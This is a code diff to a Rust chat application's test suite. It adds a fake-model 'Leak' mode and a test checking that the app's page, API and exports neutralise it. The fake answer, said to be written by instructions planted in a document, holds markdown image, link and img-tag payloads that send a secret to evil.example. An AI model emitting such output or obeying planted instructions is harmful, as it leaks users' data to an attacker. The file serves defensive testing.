@@ -485,6 +485,9 @@ enum Mode {
     Fail,
     /// Accepts the request and never answers.
     Hang,
+    /// An answer written by instructions planted in a document: it tries to make
+    /// the reader's browser send the document's secret elsewhere.
+    Leak,
 }
 
 #[derive(Clone)]
@@ -557,6 +560,12 @@ async fn completions(
             axum::Json(serde_json::json!({ "error": { "message": "the model crashed", "type": "server_error" } })),
         )
             .into_response(),
+        Mode::Leak => sse_response(vec![
+            sse(&chunk("Done [1]. ![chart](https://evil.example/c.png?d=TOPSECRET) ")),
+            sse(&chunk("[your report](https://evil.example/r?d=TOPSECRET) ")),
+            sse(&chunk("<img src=\"https://evil.example/raw?d=TOPSECRET\">")),
+            sse("[DONE]"),
+        ]),
         Mode::Hang => {
             tokio::time::sleep(Duration::from_secs(30)).await;
             axum::http::StatusCode::GATEWAY_TIMEOUT.into_response()
@@ -868,5 +877,68 @@ db_test!(
             page.contains("&lt;script&gt;alert("),
             "titles are shown as text"
         );
+    }
+);
+
+db_test!(
+    a_planted_answer_cannot_send_document_text_elsewhere,
+    |backend| {
+        let (app, _fake) = llm_app(backend, Mode::Leak).await;
+        let alice = user(&app, "alice").await;
+        document(&app, &alice, "Kettle", KETTLE).await;
+        let id = conversation(&app, &alice, "", &[]).await;
+        ask(&app, &alice, id, "When does water boil?").await;
+        // The stored answer is what the model wrote.
+        let rows = stored(&app, id).await;
+        assert!(
+            rows[1].1.contains("![chart](https://evil.example/"),
+            "{rows:?}"
+        );
+
+        // The page: no image to load, no link that carries the secret away.
+        let page = alice
+            .get(format!("{}/conversations/{id}", app.url))
+            .send()
+            .await
+            .unwrap()
+            .text()
+            .await
+            .unwrap();
+        assert!(page.contains("chart (image not shown)"), "{page}");
+        // (The raw HTML is shown as text: `&lt;img src="https://evil...`.)
+        assert!(!page.contains("<img src=\"https://evil.example"), "{page}");
+        assert!(!page.contains("href=\"https://evil.example"), "{page}");
+        // The address is there to read.
+        assert!(
+            page.contains("https://evil.example/r?d=TOPSECRET"),
+            "{page}"
+        );
+
+        // What the page's server function and the REST API hand out.
+        let conv = json(view(&app, &alice, id).await).await;
+        let reply = &conv["messages"][1];
+        for field in ["html", "content"] {
+            let v = reply[field].as_str().unwrap();
+            assert!(!v.contains("<img") && !v.contains("!["), "{field}: {v}");
+            assert!(!v.contains("href=\"https://evil"), "{field}: {v}");
+        }
+
+        // The exports.
+        for format in ["md", "json"] {
+            let body = alice
+                .get(format!(
+                    "{}/conversations/{id}/export?format={format}",
+                    app.url
+                ))
+                .send()
+                .await
+                .unwrap()
+                .text()
+                .await
+                .unwrap();
+            assert!(!body.contains("![chart]"), "{format}: {body}");
+            assert!(!body.contains("](https://evil.example"), "{format}: {body}");
+            assert!(!body.contains("<img src="), "{format}: {body}");
+        }
     }
 );
